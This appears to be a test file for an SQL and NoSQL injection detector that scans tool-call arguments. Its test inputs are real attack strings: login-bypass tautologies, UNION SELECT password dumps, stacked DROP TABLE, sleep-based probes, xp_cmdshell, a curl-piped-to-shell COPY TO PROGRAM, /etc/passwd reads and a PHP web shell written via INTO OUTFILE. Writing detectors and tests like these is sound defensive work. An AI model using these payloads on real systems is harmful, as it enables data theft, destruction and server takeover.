import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { FieldRole } from '../../src/detect/detector.js';
import { sqlInjectionDetectors } from '../../src/detect/detectors/sql-injection.js';
import { createEngine, loadBuiltinRules } from '../../src/detect/index.js';
import { mcpEvent } from '../support/mcp-event.js';
import { detectChecked } from './trigger-check.js';

/** Every SQL match on one field: [detector id without family, matched text, start]. */
function hits(key: string, value: string, role: FieldRole = 'argument'): [string, string, number][] {
  return sqlInjectionDetectors.flatMap((detector) =>
    detectChecked(
      detector,
      { path: `arguments.${key}`, key, role, value },
      { tool: 'query', method: 'tools/call' },
    ).map((m): [string, string, number] => [
      detector.id.replace('sql-injection.', ''),
      value.slice(m.start, m.end),
      m.start,
    ]),
  );
}

function ids(key: string, value: string, role: FieldRole = 'argument'): string[] {
  return hits(key, value, role).map(([id]) => id);
}

describe('sql-injection.tautology', () => {
  it('detects a quote-breaking OR that is always true, read as if inside a string literal', () => {
    assert.deepEqual(hits('username', "admin' OR '1'='1"), [['tautology', "OR '1'='1", 7]]);
  });
  it('detects numeric, double-quoted and parenthesized forms', () => {
    assert.deepEqual(hits('id', '1 OR 1=1 --'), [['tautology', 'OR 1=1', 2]]);
    assert.deepEqual(hits('name', '" or ""="'), [['tautology', 'or ""="', 2]]);
    assert.deepEqual(hits('customer', "'or(1)=(1)#")[0], ['tautology', 'or(1)=(1)', 1]);
  });
  it('detects a tautology inside a whole statement', () => {
    assert.deepEqual(hits('sql', 'SELECT * FROM users WHERE id = 1 OR 1=1'), [['tautology', 'OR 1=1', 33]]);
  });
  it('detects a boolean blind probe (AND 1=2 before a comment)', () => {
    assert.deepEqual(hits('q', "1' AND 1=2 --")[0], ['tautology', 'AND 1=2', 3]);
  });
  it('detects a percent-encoded payload, spanning the encoded text', () => {
    assert.deepEqual(hits('search', '%27%20OR%20%271%27%3D%271'), [['tautology', 'OR%20%271%27%3D%271', 6]]);
  });
  it('does not flag OR between ordinary conditions or search terms', () => {
    assert.deepEqual(hits('sql', "SELECT * FROM users WHERE email = 'a@b.com' OR email = 'c@d.com'"), []);
    assert.deepEqual(hits('query', 'weather in Paris OR London'), []);
    assert.deepEqual(hits('q', 'why is 1=1 always true in boolean logic'), []);
    assert.deepEqual(hits('q', "It's either 0 or 1, isn't it? Let's see."), []);
  });
});

describe('sql-injection.union-select', () => {
  it('detects UNION SELECT in a parameter, spanning UNION ... SELECT', () => {
    assert.deepEqual(hits('q', "x' UNION SELECT username, password FROM users--"), [
      ['union-select', 'UNION SELECT', 3],
    ]);
    assert.deepEqual(hits('id', '-1 UNION SELECT NULL,NULL,table_name FROM information_schema.tables'), [
      ['union-select', 'UNION SELECT', 3],
    ]);
  });
  it('detects a UNION in a whole statement that reads the schema catalog', () => {
    const sql = 'SELECT name FROM products WHERE id = 1 UNION SELECT sql, name FROM sqlite_master';
    assert.deepEqual(hits('query', sql), [['union-select', 'UNION SELECT', 39]]);
  });
  it('does not flag an ordinary UNION ALL or prose about it', () => {
    assert.deepEqual(
      hits('sql', 'SELECT id FROM archived_orders UNION ALL SELECT id FROM orders WHERE created_at < $1'),
      [],
    );
    assert.deepEqual(hits('q', 'how to use UNION ALL in postgres'), []);
  });
});

describe('sql-injection.stacked-query', () => {
  it('detects ; DROP TABLE after a value', () => {
    assert.deepEqual(hits('id', '5; DROP TABLE users--'), [
      ['stacked-query', '; DROP TABLE', 1],
      ['destructive', 'DROP TABLE users', 3],
    ]);
    assert.deepEqual(ids('name', "Robert'); DROP TABLE Students;--"), ['stacked-query', 'destructive']);
  });
  it('detects a write chained to a SELECT on one line', () => {
    assert.deepEqual(hits('sql', 'SELECT * FROM users WHERE id = 1; DELETE FROM users'), [
      ['stacked-query', 'DELETE FROM', 34],
      ['destructive', 'DELETE FROM users', 34],
    ]);
  });
  it('does not flag a multi-statement script or prose with a semicolon', () => {
    assert.deepEqual(
      hits('sql', 'BEGIN;\nUPDATE accounts SET balance = balance - 10 WHERE id = 1;\nCOMMIT;'),
      [],
    );
    assert.deepEqual(hits('note', 'Do this first; update the docs later'), []);
  });
  it('does not flag reads chained to a read, whatever follows SELECT', () => {
    assert.deepEqual(hits('sql', 'SELECT count(*) FROM users; SELECT count(*) FROM orders;'), []);
    assert.deepEqual(hits('sql', 'SELECT 1; SELECT DISTINCT country FROM customers'), []);
  });
});

describe('sql-injection.comment-truncation', () => {
  it('detects a quote closed and the rest commented out', () => {
    assert.deepEqual(hits('username', "admin'--"), [['comment-truncation', "'--", 5]]);
    assert.deepEqual(hits('username', "admin' #"), [['comment-truncation', "' #", 5]]);
    assert.deepEqual(hits('q', "1' ORDER BY 3--+"), [['comment-truncation', "' ORDER BY 3--+", 1]]);
  });
  it('detects keywords split by inline comments', () => {
    const value = "1'/**/UN/**/ION/**/SEL/**/ECT/**/password/**/FROM/**/users#";
    assert.deepEqual(hits('report_id', value), [['comment-truncation', value.slice(6), 6]]);
  });
  it('does not flag ordinary comments or a dash in a search term', () => {
    assert.deepEqual(
      hits(
        'sql',
        "-- active users\nSELECT * FROM users WHERE status = 'active' -- only active\nORDER BY name",
      ),
      [],
    );
    assert.deepEqual(hits('q', 'cable 3.5mm -- male to male'), []);
    assert.deepEqual(hits('q', "O'Reilly programming books"), []);
  });
});

describe('sql-injection.error-based and subquery', () => {
  it('detects CONVERT of a subquery and @@version', () => {
    assert.deepEqual(hits('q', "x' AND 1=CONVERT(int,(SELECT @@version))--"), [
      ['error-based', 'CONVERT(', 9],
      ['error-based', '@@version', 29],
    ]);
  });
  it('detects a subquery smuggled into an id or a sort key', () => {
    assert.deepEqual(hits('id', "1' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a"), [
      ['subquery', '(SELECT password FROM users', 17],
    ]);
    const order =
      "(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN name ELSE email END)";
    assert.deepEqual(hits('order_by', order), [['subquery', '(SELECT substr(password,1,1) FROM users', 11]]);
  });
  it('detects a conditional oracle without FROM in a sort key', () => {
    assert.deepEqual(hits('sort', 'price,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)'), [
      ['subquery', '(SELECT CASE WHEN', 6],
    ]);
    assert.deepEqual(hits('sql', 'SELECT (SELECT CASE WHEN paid THEN 1 ELSE 0 END) AS p FROM invoices'), []);
  });
  it('does not flag subqueries in a whole statement', () => {
    assert.deepEqual(
      hits('sql', 'SELECT * FROM users WHERE id IN (SELECT user_id FROM orders WHERE total > 100)'),
      [],
    );
  });
});

describe('sql-injection.time-based', () => {
  it('detects SLEEP, pg_sleep, WAITFOR DELAY and BENCHMARK', () => {
    assert.deepEqual(hits('id', "1' AND SLEEP(5)-- -")[1], ['time-based', 'SLEEP(', 7]);
    assert.deepEqual(hits('sql', 'SELECT pg_sleep(10)'), [['time-based', 'pg_sleep(', 7]]);
    assert.ok(ids('id', "1; WAITFOR DELAY '0:0:5'--").includes('time-based'));
    assert.ok(ids('q', "1' AND BENCHMARK(5000000,MD5(1))#").includes('time-based'));
  });
  it('does not flag the word sleep in a search', () => {
    assert.deepEqual(hits('q', 'sleep tips for toddlers'), []);
  });
});

describe('sql-injection.destructive', () => {
  it('detects DROP, TRUNCATE, ALTER ... DROP and GRANT ALL, spanning the statement head', () => {
    assert.deepEqual(hits('sql', 'DROP TABLE users'), [['destructive', 'DROP TABLE users', 0]]);
    assert.deepEqual(hits('sql', 'DROP TABLE IF EXISTS users'), [
      ['destructive', 'DROP TABLE IF EXISTS users', 0],
    ]);
    assert.deepEqual(hits('sql', 'TRUNCATE TABLE orders'), [['destructive', 'TRUNCATE TABLE orders', 0]]);
    assert.deepEqual(hits('sql', 'ALTER TABLE users DROP COLUMN email'), [
      ['destructive', 'DROP COLUMN', 18],
    ]);
    assert.deepEqual(hits('sql', "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'"), [
      ['destructive', 'GRANT ALL PRIVILEGES', 0],
    ]);
    assert.deepEqual(hits('sql', "CREATE USER backdoor WITH SUPERUSER PASSWORD 'x'"), [
      ['destructive', 'CREATE USER backdoor', 0],
    ]);
    assert.deepEqual(hits('sql', "CREATE USER report_reader WITH PASSWORD 'x'"), []);
  });
  it('detects DELETE or UPDATE without a WHERE, or with an always-true one', () => {
    assert.deepEqual(hits('sql', 'DELETE FROM customers;'), [['destructive', 'DELETE FROM customers', 0]]);
    assert.deepEqual(hits('sql', 'UPDATE accounts SET balance = 0'), [['destructive', 'UPDATE accounts', 0]]);
    assert.deepEqual(hits('sql', 'DELETE FROM sessions WHERE 1=1'), [
      ['destructive', 'DELETE FROM sessions WHERE 1=1', 0],
    ]);
  });
  it('does not flag filtered writes, scratch-table cleanup or harmless ALTERs', () => {
    const ordinary = [
      'UPDATE t SET x=1 WHERE id=3',
      "DELETE FROM sessions WHERE expires_at < now() - interval '30 days'",
      'DROP TABLE IF EXISTS tmp_import_2026_10;',
      'ALTER TABLE users ALTER COLUMN name DROP DEFAULT',
      "SELECT * FROM notes WHERE body LIKE '%drop table%'",
      "INSERT INTO logs (msg) VALUES ('user typed: drop table; or 1=1')",
    ];
    for (const sql of ordinary) assert.deepEqual(hits('sql', sql), [], sql);
  });
  it('does not flag prose that mentions dropping a table', () => {
    assert.deepEqual(hits('note', 'please drop table users from the report'), []);
    assert.deepEqual(hits('q', 'label:bug "drop table" migration fails'), []);
  });
});

describe('sql-injection.os-command and file-access', () => {
  it('detects xp_cmdshell and COPY ... TO PROGRAM', () => {
    assert.deepEqual(hits('sql', "EXEC xp_cmdshell 'whoami'"), [['os-command', 'xp_cmdshell', 5]]);
    assert.deepEqual(hits('sql', "COPY (SELECT '') TO PROGRAM 'curl http://x | sh'"), [
      ['os-command', "TO PROGRAM 'curl http://x | sh'", 17],
    ]);
  });
  it('detects LOAD_FILE, INTO OUTFILE and ATTACH of a web shell', () => {
    assert.deepEqual(hits('sql', "SELECT LOAD_FILE('/etc/passwd')"), [['file-access', 'LOAD_FILE(', 7]]);
    const outfile = "SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'";
    assert.deepEqual(hits('sql', outfile), [['file-access', 'INTO OUTFILE', 36]]);
    assert.deepEqual(hits('sql', "ATTACH DATABASE '/var/www/html/s.php' AS pwn"), [
      ['file-access', "ATTACH DATABASE '/var/www/html/s.php'", 0],
    ]);
  });
  it('reads flat metadata keys', () => {
    assert.deepEqual(ids('id', "1' AND SLEEP(5)-- -", 'metadata'), ['comment-truncation', 'time-based']);
  });
});

describe('ordinary SQL', () => {
  it('does not flag the statements database tools run all day', () => {
    const statements = [
      'SELECT id, name FROM users WHERE id = 42',
      "WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day') SELECT * FROM recent r JOIN users u ON u.id = r.user_id ORDER BY r.created DESC",
      "SELECT column_name FROM information_schema.columns WHERE table_name = 'orders'",
      "SELECT * FROM authors WHERE last_name = 'O''Brien'",
      'SELECT count(*) AS n, country FROM signups GROUP BY country HAVING count(*) > 10 ORDER BY n DESC',
    ];
    for (const sql of statements) assert.deepEqual(hits('sql', sql), [], sql);
  });
});

describe('sql-injection rule data', () => {
  const rules = loadBuiltinRules().filter((rule) => rule.category === 'sql_injection');
  it('has one enabled rule per detector, reading arguments and metadata', () => {
    assert.deepEqual(
      rules.map((rule) => rule.detector).sort(),
      sqlInjectionDetectors.map((d) => d.id).sort(),
    );
    for (const rule of rules) {
      assert.deepEqual(rule.fields, ['argument', 'metadata'], rule.id);
      assert.equal(rule.enabled, true, rule.id);
      assert.ok(rule.mappings.atlas.length > 0 && rule.mappings.owasp.length > 0, rule.id);
    }
  });
  it('blocks destructive SQL and SQL that runs commands by default', () => {
    for (const id of [
      'sql-injection.destructive',
      'sql-injection.stacked-query',
      'sql-injection.os-command',
    ]) {
      assert.equal(rules.find((rule) => rule.detector === id)?.action, 'block', id);
    }
  });
});

describe('sql-injection.nosql-operator', () => {
  const engine = createEngine(loadBuiltinRules());
  const findings = (args: Record<string, unknown>) =>
    engine
      .scan(mcpEvent({ tool: 'find_user', method: 'tools/call', arguments: args }))
      .findings.filter((finding) => finding.ruleId === 'MCP-SQL-011')
      .map((finding) => [finding.field, finding.detail]);

  it('detects operators standing in for a login value, null operands included', () => {
    assert.deepEqual(findings({ username: { $ne: null }, password: { $ne: null } }), [
      ['arguments.username.$ne', '$ne operator in the username field'],
      ['arguments.password.$ne', '$ne operator in the password field'],
    ]);
    assert.deepEqual(findings({ user: 'admin', password: { $regex: '.*' } }), [
      ['arguments.password.$regex', '$regex operator in the password field'],
    ]);
    assert.deepEqual(findings({ body: 'user=admin&password[$ne]=x' }), [
      ['arguments.body', 'password[$ne] operator in a form field'],
    ]);
  });
  it('detects JavaScript probes in a $where clause, also inside a JSON string', () => {
    assert.deepEqual(findings({ filter: '{"$where": "sleep(5000) || true"}' }), [
      ['arguments.filter.$where', 'JavaScript in a $where clause'],
    ]);
  });
  it('does not flag filters that tools take as such', () => {
    assert.deepEqual(
      findings({ filter: { created_at: { $gt: '2026-01-01' }, status: { $in: ['open'] } } }),
      [],
    );
    assert.deepEqual(findings({ filter: '{"$where": "this.total > 100"}' }), []);
    assert.deepEqual(findings({ query: 'price[$gt]=10&sort=price' }), []);
  });
});

describe('sql-injection: red-team round 13', () => {
  it('reads an inline comment between OR and its operands as a space', () => {
    assert.deepEqual(ids('password', "' oR/**/'a'='a"), ['tautology']);
    assert.deepEqual(ids('q', "x'/**/OR/**/1=1--").includes('tautology'), true);
  });
  it("reads MySQL's || and && as OR and AND in a fragment", () => {
    assert.deepEqual(ids('user', "admin'||'1'='1"), ['tautology']);
    assert.deepEqual(ids('user', "x'&&'1'='1"), ['tautology']);
  });
  it('leaves || as concatenation in a whole statement alone', () => {
    assert.deepEqual(ids('sql', "SELECT first_name || ' ' || last_name FROM users WHERE id = 4"), []);
    assert.deepEqual(ids('q', "O'Brien"), []);
  });
  it('detects LOAD DATA INFILE, but not a LOAD of something else', () => {
    assert.deepEqual(ids('sql', "LOAD DATA INFILE '/etc/passwd' INTO TABLE tmp_import"), ['file-access']);
    assert.deepEqual(ids('sql', "LOAD DATA LOCAL INFILE 'a.csv' INTO TABLE t"), ['file-access']);
    assert.deepEqual(ids('sql', 'SELECT load, data FROM metrics WHERE host = 1'), []);
  });
  it('reads a short one-line `code` or `data` argument as a fragment, a code body not', () => {
    assert.deepEqual(ids('code', "x'||DBMS_PIPE.RECEIVE_MESSAGE(('a'),10)||'"), ['time-based']);
    assert.deepEqual(ids('data', "x' AND SLEEP(10)-- ").includes('time-based'), true);
    assert.deepEqual(ids('code', 'SAVE20'), []);
    assert.deepEqual(ids('content', "hi'); DROP TABLE notes;--"), ['stacked-query']);
    const body = 'import time\nquery = "SELECT * FROM t WHERE a = \'" + x + "\' AND SLEEP(5)"\n';
    assert.deepEqual(ids('code', body), []);
  });
  it('leaves a one-line SQL file an agent writes to the statement rules of SQL arguments', () => {
    assert.deepEqual(ids('content', 'DROP TABLE legacy_sessions;'), []);
    assert.deepEqual(ids('new_string', "UPDATE settings SET theme = 'dark';"), []);
    assert.deepEqual(ids('content', 'SELECT * FROM users WHERE id = 1 OR 1=1'), []);
    assert.deepEqual(ids('sql', "UPDATE settings SET theme = 'dark';"), ['destructive']);
  });
});
